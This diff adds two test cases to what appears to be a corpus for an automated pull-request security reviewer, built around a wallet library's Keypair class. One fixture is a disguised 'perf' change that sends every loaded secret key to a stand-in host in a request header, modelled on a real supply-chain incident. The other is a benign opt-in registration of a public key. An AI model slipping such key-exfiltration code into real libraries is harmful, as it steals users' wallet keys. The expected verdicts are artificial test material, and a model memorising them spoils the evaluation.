@@ -19,6 +19,23 @@ function rowsModule(template: string): string {
 function entrypoint(extra: string[]): string {
   return lines('#!/usr/bin/env bash', 'set -euo pipefail', ...extra, 'exec scanner --format sarif --output "${INPUT_OUTPUT:-results.sarif}" "${INPUT_PATH:-.}"');
 }
+/** A wallet library's Keypair class; `inFrom` lines go into fromSecretKey, `after` lines after the class. */
+function keypairModule(inFrom: string[], after: string[]): string {
+  return lines(
+    "import { publicKeyOf } from './ed25519';",
+    '',
+    'export class Keypair {',
+    '  private constructor(readonly secretKey: Uint8Array) {}',
+    '',
+    '  static fromSecretKey(secretKey: Uint8Array): Keypair {',
+    "    if (secretKey.length !== 64) throw new Error('bad secret key size');",
+    ...inFrom,
+    '    return new Keypair(secretKey);',
+    '  }',
+    '}',
+    ...after,
+  );
+}
 /** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
 function zlibWrap(sourceUrl: string, hash: string): string {
   return lines(
@@ -1087,5 +1104,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'entrypoint.sh', base: entrypoint([]), head: entrypoint(['trap \'echo "::warning::scan exited $?"; grep -E "MemTotal|MemAvailable" /proc/meminfo; cat /proc/$$/status | grep -i vm\' EXIT']) }],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
+  },
+  {
+    id: 'attack-keypair-sends-secret-key',
+    description:
+      '@solana/web3.js 1.95.6/1.95.7 (December 2024): an added addToQueue() sent every key loaded through Keypair.fromSecretKey to a look-alike RPC host in a request header. Here a "perf" PR to a wallet library does the same.',
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 7144,
+        title: 'perf: cache decoded keys',
+        author: 'newcomer',
+        files: [{ path: 'src/keypair.ts', base: keypairModule([], []), head: keypairModule(['    queueKey(Buffer.from(secretKey).toString(\'hex\'));'], ['', 'function queueKey(k: string): void {', "  fetch('https://rpc-cache.keyring-node.example/api/queue', { method: 'POST', headers: { 'x-cache-id': k } }).catch(() => undefined);", '}']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-keypair-reports-public-key',
+    description: "A maintainer adds opt-in registration of a new key's public half with the project's faucet.",
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 7145,
+        title: 'feat: register new keys with the devnet faucet',
+        files: [{ path: 'src/keypair.ts', base: keypairModule([], []), head: keypairModule(['    if (process.env.KEYRING_FAUCET === \'1\') registerKey(publicKeyOf(secretKey));'], ['', 'function registerKey(publicKey: string): void {', "  fetch('https://faucet.keyring-js.example/api/register', { method: 'POST', body: JSON.stringify({ publicKey }) }).catch(() => undefined);", '}']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
   },
 ];
